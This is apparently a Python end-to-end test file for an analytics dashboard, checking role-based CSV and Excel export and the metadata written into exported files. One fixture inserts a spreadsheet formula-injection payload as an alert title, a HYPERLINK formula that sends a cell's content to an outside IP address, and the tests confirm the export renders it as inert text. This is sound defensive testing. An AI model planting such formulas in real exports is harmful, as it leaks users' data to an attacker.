"""Who may take numbers away, and what a file says about them."""

import csv
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Locator, Page, expect
from sqlalchemy import text

from tests import factories
from tests.e2e.conftest import Visit
from tests.e2e.screen import CLOCK, WITHIN_MS, Screen
from tests.e2e.stage import Stage

pytestmark = pytest.mark.browser

CHANGES = "What changed in the last hour?"
FORMULA = '=HYPERLINK("http://203.0.113.9/"&A1,"open")'
FORGET = text("delete from production_alerts where title = :title")


@pytest.fixture
def attack(stage: Stage) -> Iterator[str]:
    """An alert whose title is a formula, begun a minute ago."""
    at = datetime.now(UTC) - timedelta(minutes=1)
    with stage.database() as db:
        factories.alert(db, title=FORMULA, severity="warning", started_at=at)
        yield FORMULA
        with db.write() as tx:
            tx.execute(FORGET, title=FORMULA)


def _as(screen: Screen, name: str) -> Screen:
    """Be somebody else of the demo's team."""
    screen.page.get_by_role("combobox", name="See Atalaya as").click()
    screen.page.get_by_role("option", name=name).click()
    expect(screen.page.locator(".st-key-who-am-i")).to_contain_text(name.partition(",")[0])
    return screen.settled()


def _saved(page: Page, menu: Locator, label: str, folder: Path) -> Path:
    with page.expect_download(timeout=WITHIN_MS) as download:
        menu.get_by_role("button", name=label, exact=True).click()
    path = folder / download.value.suggested_filename
    download.value.save_as(path)
    return path


def test_a_viewer_finds_no_export_in_the_menu_but_whom_it_is_for(visit: Visit) -> None:
    screen = _as(visit().open("/"), "Malena Suárez, Viewer")
    menu = screen.panel(CHANGES).open_menu()
    expect(menu).to_contain_text("need the role Analyst")
    for label in ("CSV", "Excel"):
        expect(menu.get_by_role("button", name=label, exact=True)).to_have_count(0)


def test_an_analysts_files_say_what_they_hold_and_run_no_formula(
    attack: str, visit: Visit, tmp_path: Path
) -> None:
    screen = _as(visit().open("/", region="AR-X", device="mobile"), "Bruno Acosta, Analyst")
    panel = screen.panel(CHANGES)
    expect(panel.body).to_contain_text(attack, timeout=WITHIN_MS)
    menu = panel.open_menu()
    rows = list(csv.reader(_saved(screen.page, menu, "CSV", tmp_path).open(encoding="utf-8-sig")))
    about = {row[0].removeprefix("# "): row[1] for row in rows if row and row[0].startswith("# ")}
    _assert_tells(about)
    cells = [cell for row in rows for cell in row]
    assert f"'{attack}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]

    book = load_workbook(_saved(screen.page, menu, "Excel", tmp_path))
    _assert_tells(
        {str(key): str(value) for key, value in book["About"].iter_rows(values_only=True)}
    )
    found = [cell for row in book["Data"].iter_rows() for cell in row if cell.value == attack]
    assert found
    assert {cell.data_type for cell in found} == {"s"}, "the cell is text and not a formula"


def _assert_tells(about: dict[str, str]) -> None:
    assert about["Title"] == CHANGES
    assert "Córdoba" in about["Filters"]
    assert "Mobile" in about["Filters"]
    assert about["Time zone"] == "America/Argentina/Buenos_Aires"
    assert re.fullmatch(rf"\d{{4}}-\d\d-\d\dT{CLOCK}-03:00", about["As of"])
    assert about["Source"] == "Postgres"
    assert "newest first" in about["Definition"]
    assert "-- data.attention.changes" in about["Statement"]


def test_an_analyst_takes_the_raw_events_of_the_chosen_days_and_a_viewer_does_not(
    stage: Stage, visit: Visit, tmp_path: Path
) -> None:
    with stage.database() as db:
        factories.event(db, visitor_id=4711, at=datetime.now(UTC) - timedelta(minutes=5))
    screen = visit().open("/funnel", span="7d")
    screen.page.get_by_role("button", name="Export").click()
    with screen.page.expect_download(timeout=WITHIN_MS) as download:
        screen.page.get_by_role("button", name="Events as CSV").click()
    saved = tmp_path / "events.csv"
    download.value.save_as(saved)
    assert download.value.suggested_filename.startswith("atalaya-events-")
    content = saved.read_text("utf-8-sig")
    assert content.startswith("# Title,Raw events")
    above, *rows = content.split("\n\n")[-1].split("\r\n\r\n")[-1].splitlines()
    assert above.startswith("occurred_at,event,")
    assert any(",4711,1," in row for row in rows)
    said = screen.page.locator(".atl-download").inner_text()
    assert f"Saved: {len(rows):,} rows.".replace(",", ".") in said
    viewer = _as(visit().open("/funnel", span="7d"), "Malena Suárez, Viewer")
    viewer.page.get_by_role("button", name="Export").click()
    expect(viewer.page.get_by_text("need the role Analyst")).to_be_visible()
    expect(viewer.page.get_by_role("button", name="Events as CSV")).to_have_count(0)
